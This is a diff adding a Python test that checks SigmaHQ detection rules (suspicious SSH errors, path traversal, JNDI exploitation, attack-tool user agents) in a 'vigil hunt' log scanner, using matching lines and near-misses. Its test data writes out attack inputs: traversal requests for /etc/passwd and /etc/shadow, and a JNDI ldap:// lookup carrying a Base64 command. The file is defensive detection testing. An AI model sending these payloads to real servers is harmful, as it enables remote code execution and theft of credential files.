@@ -1,0 +1,79 @@
+#!/usr/bin/env python3
+"""test_sigma_real.py — real SigmaHQ rules (../shared/sigma-rules) through `vigil hunt`
+against log lines written to trigger them, near-misses that must not, and the same words
+in another logsource's events, which routing must keep away from the rule.
+"""
+import json
+import os
+import subprocess
+import sys
+import tempfile
+
+VIGIL = os.environ.get("VIGIL_BIN", "build/vigil")
+TOP = os.environ.get("VIGIL_TOP", os.getcwd())
+RULES = os.path.join(TOP, "..", "shared", "sigma-rules", "rules")
+failed = 0
+
+
+def report(name, ok, why=""):
+    global failed
+    if ok:
+        print("ok - %s" % name)
+    else:
+        failed += 1
+        print("not ok - %s: %s" % (name, why))
+
+
+def web(path, ua="Mozilla/5.0 (X11; Linux x86_64)"):
+    return ('198.51.100.20 - - [05/Sep/2024:02:00:00 +0000] "GET %s HTTP/1.1" 200 10 "-" "%s"'
+            % (path, ua))
+
+
+def ssh(msg):
+    return "Sep  5 02:00:00 bastion sshd[4242]: " + msg
+
+
+# (rule file, rule id, lines that must match, lines that must not)
+CASES = [
+    ("linux/builtin/sshd/lnx_sshd_susp_ssh.yml", "e76b413a-83d0-4b94-8e4c-85db4a5b8bdc",
+     [ssh("Corrupted MAC on input. [preauth]"),
+      ssh("error: Received disconnect: bad client public DH value")],
+     [ssh("Connection closed by 203.0.113.5 port 4242 [preauth]"),
+      web("/x?msg=Corrupted%20MAC%20on%20input", "Corrupted MAC on input")]),
+    ("web/webserver_generic/web_path_traversal_exploitation_attempt.yml",
+     "7745c2ea-24a5-4290-b680-04359cb84b35",
+     [web("/download?file=../../../etc/passwd"),
+      web("/cgi?f=..%252f..%252f..%252fetc%252fshadow")],
+     [web("/download?file=../etc/passwd"),
+      web("/../../../etc/passwd"),  # in the path, not the query the rule names
+      ssh("Invalid user x from 10.0.0.1 ../../../etc/ port 22")]),
+    ("web/webserver_generic/web_jndi_exploit.yml", "412d55bc-7737-4d25-9542-5b396867ce55",
+     [web("/a?x=${jndi:ldap://198.51.100.9/Basic/Command/Base64/aWQ=}")],
+     [web("/Basic/Command/"), ssh("Failed password for /Basic/Command/Base64/ from 10.0.0.1")]),
+    ("web/webserver_generic/web_susp_useragents.yml", "19aa4f58-94ca-45ff-bc34-92e533c0994a",
+     [web("/", "sqlmap/1.7.2#stable (https://sqlmap.org)")],
+     [web("/sqlmap/"), ssh("Failed password for sqlmap/ from 10.0.0.1 port 22 ssh2")]),
+]
+
+
+def main():
+    with tempfile.TemporaryDirectory() as tmp:
+        for rule, rid, hits, misses in CASES:
+            log = os.path.join(tmp, "case.log")
+            with open(log, "w") as f:
+                f.write("\n".join(hits + misses) + "\n")
+            p = subprocess.run([VIGIL, "hunt", "--rules", os.path.join(RULES, rule), log],
+                               capture_output=True, timeout=60)
+            out = [json.loads(l) for l in p.stdout.decode().splitlines() if l.strip()]
+            got = sorted(m["event"]["raw"] for m in out if m["rule"]["id"] == rid)
+            name = os.path.basename(rule)
+            report("%s loads and hunts" % name, p.returncode == 0 and
+                   "rules loaded 1, refused 0" in p.stderr.decode(), p.stderr.decode())
+            report("%s matches its %d triggers and none of its %d near-misses" %
+                   (name, len(hits), len(misses)), got == sorted(hits),
+                   "got %s" % got)
+    return 1 if failed else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
